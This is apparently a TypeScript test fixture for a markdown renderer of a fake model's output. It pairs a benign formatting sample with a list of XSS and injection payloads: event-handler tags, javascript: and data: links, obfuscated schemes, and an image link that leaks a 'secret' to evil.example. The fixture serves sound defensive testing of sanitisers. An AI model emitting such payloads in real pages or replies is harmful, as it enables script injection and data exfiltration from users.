// What a fake model says in the checks.

/** Tables, code, lists, links, a task list, long words. */
export const LONG = `## Sorting in three languages

Here is a **comparison** of *sorting* a list, with \`inline code\`, a [link](https://example.org/docs "Docs"), ~~a mistake~~ and &rarr; an entity.

| Language | Function | Stable | Cost |
|:---------|:--------:|:------:|-----:|
| Python | \`sorted(xs)\` | yes | 1,234.5 |
| Rust | \`xs.sort()\` | yes | 98.1 |
| JavaScript | \`xs.sort()\` | yes, since ES2019 | 7.25 |

\`\`\`python
from dataclasses import dataclass

@dataclass
class Ship:
    name: str
    load: float = 0.0  # tonnes

    def over(self, line: float) -> bool:
        """Whether the ship lies too deep."""
        return self.load > line

print(sorted([Ship("Ada", 3.5), Ship("Grace", 1e3)], key=lambda s: s.load))
\`\`\`

1. First, install it:

   \`\`\`sh
   cargo run --release -- serve demo   # no network needed
   \`\`\`

2. Then open the page.
   - Nested item with **bold**
   - Another one
     - and deeper

> A quote with \`code\`, and
> a second line.

- [x] written
- [ ] tested

---

\`\`\`rust
fn main() {
    let ships: Vec<&str> = vec!["Ada", "Grace"];
    for (i, ship) in ships.iter().enumerate() {
        println!("{i}: {ship}");
    }
}
\`\`\`

\`\`\`json
{"name": "Ada", "load": 3.5, "tags": ["a", null, true]}
\`\`\`

A last line with a very long word: ${'Donaudampfschifffahrt'.repeat(12)}.
`;

/** Texts that try to become markup, to run, or to make the browser fetch something. */
export const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '<script>window.hacked = 1</script>',
  '<svg onload="window.hacked = 1"><a xlink:href="javascript:window.hacked=1">x</a></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<style>body { background: red }</style><p style="color: red" onclick="window.hacked = 1">x</p>',
  '<form action="https://evil.example/"><input name=a></form><base href="https://evil.example/">',
  '![leak](https://evil.example/leak.png?secret "title")',
  '![x](javascript:window.hacked=1)',
  '[run](javascript:window.hacked=1) [data](data:text/html,<script>1</script>) [vb](vbscript:x) [ok](https://example.org/)',
  '[entity](&#106;avascript:window.hacked=1) [space]( javascript:window.hacked=1) [tab](java\tscript:window.hacked=1)',
  '[![click](https://evil.example/i.png)](javascript:window.hacked=1)',
  '<https://evil.example/"onmouseover="window.hacked=1>',
  '[ref]\n\n[ref]: javascript:window.hacked=1 "x" onload=1',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|-|-|\n| <b onclick=alert(1)>b</b> | `<img src=x onerror=alert(1)>` |',
  '```<img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```',
  '```html\n<img src=x onerror=alert(1)><script>alert(1)</script>\n```',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  '$x$ \u202e reversed \u0000 zero',
  '# <img src=x onerror=alert(1)>\n\n- <img src=x onerror=alert(1)>\n\n> <img src=x onerror=alert(1)>',
  '__proto__ constructor toString &constructor; &__proto__;',
];
